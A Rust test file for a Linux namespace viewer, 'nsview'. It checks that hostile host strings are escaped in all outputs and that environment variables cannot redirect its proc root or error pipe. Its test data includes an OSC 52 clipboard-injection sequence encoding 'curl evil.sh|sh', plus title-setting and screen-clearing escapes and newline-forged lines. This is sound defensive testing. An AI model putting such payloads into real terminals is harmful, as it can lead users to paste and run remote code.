//! The hostile host, for output and switches (issue 10 items 3 and 5): host strings carrying
//! terminal control sequences (ESC, BEL, OSC 52, OSC 0, `\e[2J`, newlines) reach no output
//! raw, in any face or error line, and show as lsns's `\xNN`; and no environment variable
//! steers nsview (`NSVIEW_PROC_ROOT`, `NSVIEW_ERROR_FD`), while `--proc-root` says on stderr
//! which root it read. The fake-proc-tree tests run everywhere; the live ones plant the
//! strings in namespaces the test makes (UTS hostname, comm, argv, an interface name, mount
//! paths, a bind-mounted namespace file) and need root.

use std::os::fd::AsRawFd;
use std::path::Path;
use std::process::Output;

use crate::util::{FAKE_ROOT_NOTICE, FakeProc, HOST, nsview, raw_stderr, stderr, stdout, with};

/// OSC 52: set the clipboard to `curl evil.sh|sh`.
pub(crate) const OSC52: &str = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
/// OSC 0: set the window title.
pub(crate) const OSC0: &str = "\x1b]0;EXEC\x07";
/// Clear the screen.
const CLEAR: &str = "\x1b[2J";
/// A line nsview never prints, forged by a newline in a host string.
pub(crate) const FORGED: &str = "nsview: all clear";

/// No raw ESC, BEL or C1 CSI, and no line forged by a host string's newline.
fn assert_terminal_safe(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    assert!(!bytes.contains(&0x1b), "{what}: raw ESC in {text:?}");
    assert!(!bytes.contains(&0x07), "{what}: raw BEL in {text:?}");
    assert!(
        !bytes.windows(2).any(|w| w == [0xc2, 0x9b]),
        "{what}: raw C1 CSI in {text:?}"
    );
    assert!(
        !text.lines().any(|l| l.trim_start().starts_with(FORGED)),
        "{what}: a forged line in {text:?}"
    );
}

/// Both streams of a run are terminal-safe.
fn assert_output_safe(what: &str, out: &Output) {
    assert_terminal_safe(&format!("{what} (stdout)"), &out.stdout);
    assert_terminal_safe(&format!("{what} (stderr)"), &out.stderr);
    assert!(
        !raw_stderr(out).contains("panicked"),
        "{what}: {}",
        raw_stderr(out)
    );
}

// The fake tree's namespaces of the hostile process (pid 4000).
const UTS: u64 = 4026599001;
const MNT: u64 = 4026599002;
const NET: u64 = 4026599003;
const CGROUP: u64 = 4026599004;

/// A fake proc tree with a host (pid 1) and one hostile process (pid 4000): comm, argv,
/// cgroup path (an LXC container name), mount source, mount root, cgroup mount root,
/// interface name, and a bind-mounted namespace file, each carrying control sequences.
fn hostile_tree() -> FakeProc {
    let fake = FakeProc::new();
    let host = fake.process_full(1, 0, "init", 'S', 1, b"/sbin/init\0", &HOST);
    // The nsfs bind mount sits in the host's mount namespace, which is also nsview's own
    // (`self` is pid 1 here), so it shows as the namespace's NSFS path.
    // mountinfo escapes blanks and newlines in octal (`\040`, `\012`), but not ESC or BEL.
    let forged = FORGED.replace(' ', "\\040");
    std::fs::write(
        host.join("mountinfo"),
        format!(
            "22 1 252:1 / / rw - ext4 /dev/vda1 rw\n\
             40 22 0:4 net:[{NET}] /run/netns/n{OSC0}\\012{forged} rw - nsfs nsfs rw\n"
        ),
    )
    .expect("host mountinfo");
    std::os::unix::fs::symlink("1", fake.root.join("self")).expect("self");

    let comm = format!("evil{OSC0}\n{FORGED}");
    let argv = format!("sh\0-c\0{OSC52}\0{CLEAR}\n{FORGED}\0");
    let links = with(
        &HOST,
        &[("uts", UTS), ("mnt", MNT), ("net", NET), ("cgroup", CGROUP)],
    );
    let dir = fake.process_full(4000, 1, &comm, 'S', 1, argv.as_bytes(), &links);
    let container = format!("box{OSC0}");
    std::fs::write(dir.join("cgroup"), format!("0::/lxc.payload.{container}\n")).expect("cgroup");
    std::fs::write(
        dir.join("mountinfo"),
        format!(
            "600 550 0:60 / / rw - overlay ovl{CLEAR} rw\n\
             601 600 0:61 / /tmp rw - tmpfs src{OSC52} rw\n\
             602 600 252:1 /srv/x{CLEAR} /home rw - ext4 /dev/vda1 rw\n\
             603 600 0:26 /lxc.payload.{container} /sys/fs/cgroup ro - cgroup2 cgroup rw\n"
        ),
    )
    .expect("mountinfo");
    std::fs::write(
        dir.join("status"),
        "Name:\tevil\nPid:\t4000\nNStgid:\t4000\nNSpid:\t4000\n",
    )
    .expect("status");
    let net = dir.join("net");
    std::fs::create_dir_all(&net).expect("net");
    std::fs::write(
        net.join("dev"),
        format!(
            "Inter-|   Receive |  Transmit\n face |bytes packets|bytes packets\n\
             e{OSC0}\u{9b}2J:  0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0\n"
        ),
    )
    .expect("net/dev");
    fake
}

fn run_on(fake: &FakeProc, args: &[&str]) -> Output {
    nsview()
        .arg("--proc-root")
        .arg(&fake.root)
        .args(args)
        .env("LANG", "C.UTF-8")
        .env_remove("LC_ALL")
        .env_remove("LC_CTYPE")
        .output()
        .expect("run nsview")
}

#[test]
fn hostile_strings_in_a_fake_proc_tree_are_escaped_everywhere() {
    let fake = hostile_tree();
    // show, text: each namespace's report names the hostile value, escaped.
    for (inode, escaped) in [
        (UTS, r"evil\x1b]0;EXEC\x07\x0ansview: all clear"),
        (MNT, r"src\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),
        (MNT, r"ovl\x1b[2J"),
        (MNT, r"/srv/x\x1b[2J"),
        (NET, r"/run/netns/n\x1b]0;EXEC\x07\x0ansview: all clear"),
        (NET, r"e\x1b]0;EXEC\x07\xc2\x9b2J"),
        (CGROUP, r"box\x1b]0;EXEC\x07"),
        (HOST[2].1, r"evil\x1b]0;EXEC\x07\x0ansview: all clear"),
    ] {
        let out = run_on(&fake, &["show", &inode.to_string()]);
        assert_eq!(out.status.code(), Some(0), "{inode}: {}", stderr(&out));
        assert_output_safe(&format!("show {inode}"), &out);
        assert!(
            stdout(&out).contains(escaped),
            "{inode}: {escaped} in\n{}",
            stdout(&out)
        );
    }
    // The container label names the hostile cgroup, escaped, and says where it came from.
    let out = run_on(&fake, &["show", &UTS.to_string()]);
    assert!(
        stdout(&out).contains(r"container     lxc box\x1b]0;EXEC\x07, from the cgroup path"),
        "{}",
        stdout(&out)
    );

    // show --json: valid JSON that carries the original value (C1 controls, such as the
    // interface name's U+009B, escaped as \u009b too).
    for inode in [UTS, MNT, NET, CGROUP] {
        let out = run_on(&fake, &["show", &inode.to_string(), "--json"]);
        assert_output_safe(&format!("show --json {inode}"), &out);
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
        assert_eq!(json["container"]["id"], format!("box{OSC0}"), "{inode}");
        if inode == NET {
            let name = &json["details"]["net"]["interfaces"][0]["name"];
            assert_eq!(*name, format!("e{OSC0}\u{9b}2J"), "{json}");
            assert!(stdout(&out).contains(r"\u009b2J"), "{}", stdout(&out));
        }
    }

    // --list in every format, with the columns that carry host strings.
    let columns = "NS,TYPE,HOSTNAME,CONTAINER,COMMAND";
    for args in [
        &["--list"][..],
        &["--list", "-r"],
        &["--list", "-J"],
        &["-o", columns],
        &["-o", columns, "-r"],
        &["-o", columns, "-J"],
        &["-o", "NS,NSFS,COMMAND", "-u"],
        &["-o", "NS,NSFS,COMMAND", "-r"],
        &["--output-all", "-u"],
        &["--output-all", "-r"],
        &["--output-all", "-J"],
        &["-T"],
        &["-p", "4000"],
        &[&UTS.to_string()],
    ] {
        let out = run_on(&fake, args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert_output_safe(&format!("{args:?}"), &out);
        let text = stdout(&out);
        if args.contains(&"-J") {
            let json: serde_json::Value = serde_json::from_str(&text).expect("JSON");
            assert!(json.to_string().contains("\\u001b"), "{args:?}: {json}");
        } else {
            assert!(text.contains(r"\x1b"), "{args:?}: escaped in\n{text}");
        }
    }
    let out = run_on(&fake, &["-o", columns, "-u"]);
    let text = stdout(&out);
    assert!(text.contains(r"lxc box\x1b]0;EXEC\x07"), "{text}");
    assert!(
        text.contains(r"\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"),
        "{text}"
    );
}

#[test]
fn error_and_usage_lines_escape_what_they_quote() {
    let fake = hostile_tree();
    for args in [
        vec!["show".to_string(), format!("{OSC52}{CLEAR}\n{FORGED}")],
        vec!["show".to_string(), format!("uts:[{OSC0}]")],
        vec![format!("--bogus{OSC0}\n{FORGED}")],
        vec!["--list".into(), "-o".into(), format!("NS,{OSC0}")],
        vec!["--list".into(), "-Q".into(), format!("COMMAND == \"{OSC0}")],
    ] {
        let out = run_on(&fake, &args.iter().map(String::as_str).collect::<Vec<_>>());
        assert_ne!(out.status.code(), Some(0), "{args:?}");
        assert_output_safe(&format!("{args:?}"), &out);
        let err = stderr(&out);
        assert_eq!(err.lines().count(), 1, "{args:?}: one line: {err:?}");
        // clap's own usage message already drops the sequences; ours escape them (the
        // filter parser quotes its input Rust-style, `\u{1b}`, before report sees it).
        if !args[0].starts_with("--bogus") {
            assert!(
                err.contains(r"\x1b") || err.contains(r"\u{1b}"),
                "{args:?}: escaped in {err:?}"
            );
        }
    }
}

#[test]
fn report_escapes_host_strings_inside_an_error_chain() {
    let err = anyhow::anyhow!("cannot open /run/netns/n{OSC0}\n{FORGED}").context("show");
    let line = nsview::error::one_line(&format!("{err:#}"));
    assert_eq!(
        line,
        r"show: cannot open /run/netns/n\x1b]0;EXEC\x07\x0ansview: all clear"
    );
}

#[test]
fn proc_root_option_is_announced_on_stderr() {
    let fake = hostile_tree();
    let out = run_on(&fake, &["--list", "-n", "-o", "NS"]);
    assert_eq!(out.status.code(), Some(0), "{}", raw_stderr(&out));
    let first = raw_stderr(&out)
        .lines()
        .next()
        .unwrap_or_default()
        .to_string();
    assert_eq!(
        first,
        format!(
            "{FAKE_ROOT_NOTICE}{} (test/offline mode)",
            fake.root.display()
        )
    );
    // Before a subcommand too, and for every face.
    let out = nsview()
        .arg("--proc-root")
        .arg(&fake.root)
        .args(["show", &UTS.to_string()])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0), "{}", raw_stderr(&out));
    assert!(
        raw_stderr(&out).starts_with(FAKE_ROOT_NOTICE),
        "{}",
        raw_stderr(&out)
    );
    // A hostile directory name is escaped in the notice.
    let dir = tempfile::tempdir().expect("tempdir");
    let odd = dir.path().join(format!("p{OSC0}"));
    std::fs::create_dir(&odd).expect("mkdir");
    let out = nsview()
        .arg("--proc-root")
        .arg(&odd)
        .args(["--list"])
        .output()
        .expect("run");
    assert_output_safe("--proc-root with a hostile name", &out);
    assert!(
        raw_stderr(&out).contains(r"p\x1b]0;EXEC\x07"),
        "{}",
        raw_stderr(&out)
    );
    // The real /proc is not announced.
    let out = nsview()
        .args(["--proc-root", "/proc", "--list", "-n", "-o", "NS"])
        .output()
        .expect("run");
    assert!(
        !raw_stderr(&out).contains(FAKE_ROOT_NOTICE),
        "{}",
        raw_stderr(&out)
    );
}

#[test]
fn nsview_proc_root_in_the_environment_changes_nothing() {
    let fake = hostile_tree();
    for env_root in [fake.root.as_path(), Path::new("/nonexistent/proc")] {
        let out = nsview()
            .env("NSVIEW_PROC_ROOT", env_root)
            .args(["--list", "-n", "-o", "NS"])
            .output()
            .expect("run");
        assert_eq!(out.status.code(), Some(0), "{}", raw_stderr(&out));
        assert!(
            !raw_stderr(&out).contains(FAKE_ROOT_NOTICE),
            "{}",
            raw_stderr(&out)
        );
        let text = stdout(&out);
        assert!(
            !text.contains(&UTS.to_string()),
            "read the fake root: {text}"
        );
        assert!(!text.is_empty(), "read the real /proc");
    }
}

/// A pipe whose write end the child inherits at `fd`: (read end, non-blocking; write end, to
/// be dropped once the child has been spawned).
fn pipe_at(cmd: &mut std::process::Command, fd: i32) -> (std::fs::File, std::os::fd::OwnedFd) {
    use std::os::unix::process::CommandExt;
    let (read, write) = rustix::pipe::pipe_with(rustix::pipe::PipeFlags::CLOEXEC).expect("pipe");
    let raw = write.as_raw_fd();
    // SAFETY: dup2 is async-signal-safe; the child only moves an fd before exec (dup2 clears
    // CLOEXEC on the copy).
    unsafe {
        cmd.pre_exec(move || {
            if libc::dup2(raw, fd) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    rustix::fs::fcntl_setfl(&read, rustix::fs::OFlags::NONBLOCK).expect("nonblock");
    (std::fs::File::from(read), write)
}

#[test]
fn no_error_fd_can_be_chosen_from_outside() {
    use std::io::Read;
    // NSVIEW_ERROR_FD from the environment, and --ui-error-fd from a parent that is not
    // nsview (this test): the error line goes to stderr only, never into the pipe.
    for by_flag in [false, true] {
        let mut cmd = nsview();
        if by_flag {
            cmd.arg("--ui-error-fd=7");
        } else {
            cmd.env("NSVIEW_ERROR_FD", "7");
        }
        cmd.args(["show", "not-a-namespace"]);
        let (mut read, write) = pipe_at(&mut cmd, 7);
        let out = cmd.output().expect("run");
        drop(write);
        assert_eq!(out.status.code(), Some(2), "{}", raw_stderr(&out));
        assert!(
            raw_stderr(&out).contains("invalid namespace"),
            "{}",
            raw_stderr(&out)
        );
        let mut got = Vec::new();
        let _ = read.read_to_end(&mut got);
        assert!(
            got.is_empty(),
            "by_flag={by_flag}: the error reached the fd: {:?}",
            String::from_utf8_lossy(&got)
        );
    }
}

/// A shell in fresh UTS, net and mount namespaces with hostile strings planted by itself: its
/// hostname (busybox's `hostname`: util-linux's refuses such names; the kernel does not), its comm, its argv, an interface name, and the source of a tmpfs on /tmp and
/// the root of a bind mount on /etc/hostname (inside its private mount namespace only). It
/// waits on a `sleep` child; both are killed by PID on drop.
pub(crate) struct HostileShell {
    shell: std::process::Child,
    sleep: i32,
    /// The interface name the kernel took (the ESC one, or the backslash fallback).
    pub(crate) ifname: String,
}

impl Drop for HostileShell {
    fn drop(&mut self) {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(self.sleep),
            nix::sys::signal::Signal::SIGKILL,
        );
        let _ = self.shell.kill();
        let _ = self.shell.wait();
    }
}

/// The hostname (at most 64 bytes), comm (15) and interface name (15) the shell plants.
pub(crate) const HOSTNAME: &str = "h\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07";
pub(crate) const COMM: &str = "c\x1b]0;T\x07\n";
const IFNAME: &str = "i\x1b]0;T\x07";
/// What `ip link add` is given when the kernel or iproute2 refuses the ESC name.
const IFNAME_FALLBACK: &str = r"i\x1bodd";

impl HostileShell {
    pub(crate) fn start() -> HostileShell {
        use std::io::BufRead;
        // Its hostname is set with busybox's `hostname`, which takes any bytes.
        crate::util::require_program("the hostile shell", "busybox");
        let script = r#"
            set -e
            busybox hostname "$1"
            if ip link add name "$3" type bridge 2>/dev/null; then echo "if $3"; else
                ip link add name "$4" type bridge; echo "if $4"; fi
            mount -t tmpfs "$5" /tmp
            touch "/tmp/$6"
            if [ -f /etc/hostname ]; then mount --bind "/tmp/$6" /etc/hostname; fi
            printf '%s' "$2" > /proc/$$/comm
            sleep 60 &
            echo "ready $!"
            wait
        "#;
        let mut shell = std::process::Command::new("unshare")
            .args(["--uts", "--net", "--mount", "--propagation", "private"])
            .args(["sh", "-c", script, "sh", HOSTNAME, COMM, IFNAME])
            .arg(IFNAME_FALLBACK)
            .arg(format!("src{OSC52}"))
            .arg(format!("f{CLEAR}"))
            .arg(format!("{CLEAR}\n{FORGED}"))
            .stdin(std::process::Stdio::null())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("unshare");
        let mut lines = std::io::BufReader::new(shell.stdout.take().expect("stdout")).lines();
        let (tx, rx) = std::sync::mpsc::channel();
        std::thread::spawn(move || {
            let mut ifname = String::new();
            for line in lines.by_ref().map_while(Result::ok) {
                if let Some(name) = line.strip_prefix("if ") {
                    ifname = name.to_string();
                } else if let Some(pid) = line.strip_prefix("ready ") {
                    let _ = tx.send((ifname.clone(), pid.trim().parse::<i32>().ok()));
                    return;
                }
            }
            let _ = tx.send((ifname, None));
        });
        let got = rx.recv_timeout(std::time::Duration::from_secs(20));
        let (ifname, sleep) = match got {
            Ok((ifname, Some(sleep))) => (ifname, sleep),
            other => {
                let _ = shell.kill();
                let status = shell.wait();
                panic!("the hostile shell did not get ready ({other:?}, {status:?})");
            }
        };
        HostileShell {
            shell,
            sleep,
            ifname,
        }
    }

    pub(crate) fn pid(&self) -> i32 {
        self.shell.id() as i32
    }

    pub(crate) fn ns(&self, kind: &str) -> u64 {
        crate::util::ns_inode(self.pid(), kind).expect("ns link of the hostile shell")
    }
}

/// A bind mount of a namespace file at a hostile path in a temp dir of the host's mount
/// namespace (as `ip netns add` makes them), unmounted and removed on drop.
pub(crate) struct HostileBindMount {
    pub(crate) path: std::path::PathBuf,
    _dir: tempfile::TempDir,
}

impl HostileBindMount {
    pub(crate) fn new(ns_file: &Path) -> HostileBindMount {
        let dir = tempfile::tempdir().expect("tempdir");
        let path = dir.path().join(format!("b{OSC0}\n{FORGED}"));
        std::fs::write(&path, "").expect("mount point");
        let status = std::process::Command::new("mount")
            .arg("--bind")
            .arg(ns_file)
            .arg(&path)
            .status()
            .expect("mount --bind");
        assert!(status.success(), "mount --bind {ns_file:?}");
        HostileBindMount { path, _dir: dir }
    }
}

impl Drop for HostileBindMount {
    fn drop(&mut self) {
        let _ = nix::mount::umount2(&self.path, nix::mount::MntFlags::MNT_DETACH);
    }
}

fn run_live(args: &[&str]) -> Output {
    nsview()
        .args(args)
        .env("LANG", "C.UTF-8")
        .env_remove("LC_ALL")
        .env_remove("LC_CTYPE")
        .output()
        .expect("run nsview")
}

#[test]
#[ignore = "needs root"]
fn hostile_strings_in_live_namespaces_are_escaped_everywhere() {
    assert!(
        nix::unistd::geteuid().is_root(),
        "needs root to make namespaces"
    );
    let shell = HostileShell::start();
    let (uts, net, mnt) = (shell.ns("uts"), shell.ns("net"), shell.ns("mnt"));
    let bind = HostileBindMount::new(&std::path::PathBuf::from(format!(
        "/proc/{}/ns/uts",
        shell.pid()
    )));
    let escaped_ifname = nsview::text::safe(&shell.ifname).into_owned();
    assert!(escaped_ifname.contains(r"\x"), "{escaped_ifname}");

    // show, text: every planted value, escaped.
    for (inode, wanted) in [
        (uts, r"h\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07".to_string()),
        (uts, r"c\x1b]0;T\x07\x0a".to_string()),
        (
            uts,
            format!("{}", nsview::text::safe(&bind.path.to_string_lossy())),
        ),
        (net, escaped_ifname.clone()),
        (mnt, r"src\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07".to_string()),
    ] {
        let out = run_live(&["show", &inode.to_string()]);
        assert_eq!(out.status.code(), Some(0), "{inode}: {}", stderr(&out));
        assert_output_safe(&format!("show {inode}"), &out);
        assert!(
            stdout(&out).contains(&wanted),
            "{inode}: {wanted} in\n{}",
            stdout(&out)
        );
    }
    // show --json: the original bytes, JSON-escaped.
    let out = run_live(&["show", &uts.to_string(), "--json"]);
    assert_output_safe("show --json", &out);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    assert_eq!(json["details"]["uts"]["hostname"], HOSTNAME, "{json}");

    // --list: table, raw and JSON, with the host-string columns, over the whole host.
    let columns = "NS,TYPE,HOSTNAME,CONTAINER,COMMAND";
    let uts_arg = uts.to_string();
    for args in [
        &["--list"][..],
        &["--list", "-r"],
        &["--list", "-J"],
        &["-o", columns, "-u"],
        &["-o", columns, "-r"],
        &["-o", columns, "-J"],
        &["-o", "NS,NSFS,COMMAND", "-u"],
        &["-o", "NS,NSFS,COMMAND", "-r"],
        &["-p", &shell.pid().to_string()],
        &[&uts_arg],
    ] {
        let out = run_live(args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        assert_output_safe(&format!("{args:?}"), &out);
    }
    let out = run_live(&["-o", columns, "-u", "-t", "uts"]);
    let row = stdout(&out)
        .lines()
        .find(|l| l.starts_with(&uts_arg))
        .map(str::to_string)
        .unwrap_or_else(|| panic!("no row for {uts}: {}", stdout(&out)));
    assert!(row.contains(r"h\x1b]52;c;"), "hostname escaped: {row}");
    assert!(
        row.contains(r"f\x1b[2J"),
        "argv escaped: {row}\n{}",
        stdout(&out)
    );

    // The error lines of enter, also for a command name that is itself hostile.
    for command in [
        "/nonexistent".to_string(),
        format!("/nonexistent{OSC0}\n{FORGED}"),
    ] {
        let out = run_live(&["enter", &uts_arg, &command]);
        assert_eq!(out.status.code(), Some(127), "{}", stderr(&out));
        assert_output_safe(&format!("enter {command:?}"), &out);
        assert_eq!(stderr(&out).lines().count(), 1, "{}", stderr(&out));
    }
    let out = run_live(&["enter", &uts_arg, &format!("/nonexistent{OSC0}")]);
    assert!(
        stderr(&out).contains(r"/nonexistent\x1b]0;EXEC\x07"),
        "{}",
        stderr(&out)
    );
    drop(bind);
}

/// The UI's child `nsview enter` reports its error through the pipe the UI names with
/// `--ui-error-fd` (the environment plays no part): a shell asked for in a namespace that died
/// after the scan shows the child's reason in the status line.
#[test]
#[ignore = "needs root and tmux"]
fn the_ui_gets_its_childs_error_line_through_its_own_pipe() {
    assert!(nix::unistd::geteuid().is_root(), "needs root");
    // The release build first (minutes, the first time): the sleeper lives 60 s.
    let nsview = crate::util::release_nsview().display().to_string();
    let sleeper = crate::util::Sleeper::start(&["unshare", "--uts", "sleep", "60"]);
    let inode = sleeper.ns("uts");
    // A stray NSVIEW_ERROR_FD (here: the terminal itself) must not be honoured.
    let pane = crate::util::Pane::start_sized("nsview-text", (160, 40), |_| {
        format!("env NSVIEW_ERROR_FD=2 NO_COLOR=1 {nsview} --no-refresh\n")
    });
    pane.wait_for("the UI", 20, |s| s.contains("namespaces,"));
    pane.keys(&["/"]);
    pane.type_text(&inode.to_string());
    pane.keys(&["Enter"]);
    pane.wait_for("the filtered namespace", 20, |s| {
        s.contains(&format!("uts namespace {inode}"))
    });
    pane.keys(&["End"]);
    sleeper.stop();
    pane.keys(&["s"]);
    // The UI names the namespace with its type (`uts:[inode]`), so enter's line does too.
    // The child's own reason ("... is gone ..." from enter's identity check, or "not found"),
    // which only the pipe carries: without it the UI can only say "exited with status 1".
    // The UI's status line, not the child's own stderr line, which the normal screen shows
    // for a moment before the UI takes the terminal back.
    let screen = pane.wait_for("the child's error in the status line", 20, |s| {
        s.contains(&format!("{inode}"))
            && (s.contains("is gone") || s.contains("not found"))
            && s.contains("(shell in uts:[")
    });
    assert!(!screen.contains("exited with status"), "{screen}");
    pane.keys(&["q"]);
}

/// Issue 10 item 6 over a fake tree: one host process moved into a cgroup named like a docker
/// container does not make the host's namespaces the container's; a namespace whose init is in
/// a container's cgroup is labelled, the same way in `show` and `--list -o CONTAINER`, with
/// its provenance.
#[test]
fn container_labels_come_from_the_init_and_never_name_the_host() {
    const ID: &str = "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
    const ID2: &str = "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb";
    let fake = FakeProc::new();
    fake.process_full(1, 0, "init", 'S', 1, b"/sbin/init\0", &HOST);
    let spoofer = fake.process_full(500, 1, "sh", 'S', 1, b"sh\0", &HOST);
    std::fs::write(
        spoofer.join("cgroup"),
        format!("0::/system.slice/docker-{ID}.scope\n"),
    )
    .expect("cgroup");
    // A container: its init 600 (parent 1, outside) and a child 601 moved into another
    // container's cgroup.
    let own = with(&HOST, &[("uts", UTS), ("mnt", MNT)]);
    let init = fake.process_full(600, 1, "nginx", 'S', 1, b"nginx\0", &own);
    std::fs::write(
        init.join("cgroup"),
        format!("0::/system.slice/docker-{ID2}.scope\n"),
    )
    .expect("cgroup");
    let child = fake.process_full(601, 600, "worker", 'S', 1, b"worker\0", &own);
    std::fs::write(
        child.join("cgroup"),
        format!("0::/system.slice/docker-{ID}.scope\n"),
    )
    .expect("cgroup");

    let out = run_on(&fake, &["-o", "NS,CONTAINER", "-J"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
    let listed = |inode: u64| {
        json["namespaces"]
            .as_array()
            .and_then(|rows| rows.iter().find(|r| r["ns"] == inode))
            .map(|r| r["container"].clone())
            .unwrap_or_else(|| panic!("no row {inode}: {json}"))
    };
    for (kind, inode) in HOST {
        assert!(listed(inode).is_null(), "host {kind}: {}", listed(inode));
        let out = run_on(&fake, &["show", &inode.to_string(), "--json"]);
        let shown: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
        assert!(shown["container"].is_null(), "host {kind}: {shown}");
    }
    for inode in [UTS, MNT] {
        assert_eq!(listed(inode), "docker bbbbbbbbbbbb", "{inode}");
        let out = run_on(&fake, &["show", &inode.to_string(), "--json"]);
        let shown: serde_json::Value = serde_json::from_slice(&out.stdout).expect("JSON");
        assert_eq!(shown["container"]["id"], ID2, "{inode}: {shown}");
        assert_eq!(shown["container"]["provenance"], "cgroup-path", "{inode}");
        let out = run_on(&fake, &["show", &inode.to_string()]);
        assert!(
            stdout(&out).contains("container     docker bbbbbbbbbbbb, from the cgroup path\n"),
            "{}",
            stdout(&out)
        );
    }
}

/// The UI header's source: a fake root is recorded in the snapshot and in the scan options,
/// the live /proc in neither.
#[test]
fn a_fake_root_is_recorded_in_the_snapshot() {
    let fake = hostile_tree();
    let options = nsview::scan::ScanOptions::for_root(Some(fake.root.clone()));
    assert_eq!(options.fake_root(), Some(fake.root.as_path()));
    let snapshot = nsview::scan::scan(&options).expect("scan the fake tree");
    assert_eq!(snapshot.proc_root.as_deref(), Some(fake.root.as_path()));
    for live in [
        None,
        Some(std::path::PathBuf::from("/proc")),
        Some("/proc/".into()),
    ] {
        assert_eq!(
            nsview::scan::ScanOptions::for_root(live.clone()).fake_root(),
            None,
            "{live:?}"
        );
    }
}
